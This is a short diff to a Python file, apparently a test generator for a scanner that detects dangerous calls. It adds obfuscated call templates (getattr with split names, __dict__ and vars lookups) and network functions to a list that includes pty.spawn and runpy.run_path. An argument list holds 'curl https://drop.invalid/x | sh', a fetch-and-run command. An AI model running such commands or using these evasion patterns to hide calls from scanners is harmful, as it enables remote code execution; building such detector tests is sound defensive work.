@@ -36,6 +36,9 @@ CALLS = (
     "renamed({a})",
     "getattr({m}, '{f}')({a})",
     "getattr(alias, '{f1}' + '{f2}')({a})",
+    "getattr({m}, '{f1}' + '{f2}')({a})",
+    "{m}.__dict__['{f1}' + '{f2}']({a})",
+    "name = '{f1}' + '{f2}'\nvars({m})[name]({a})",
     "x = {m}.{f}\nx({a})",
     "def go():\n    {m}.{f}({a})\ngo()",
     "(lambda: {m}.{f}({a}))()",
@@ -56,6 +59,8 @@ ACTS = (
     ("pty", "spawn"),
     ("httpx", "get"),
     ("runpy", "run_path"),
+    ("urllib.request", "urlopen"),
+    ("http.client", "HTTPSConnection"),
 )
 ARGUMENTS = (
     "'curl https://drop.invalid/x | sh'",
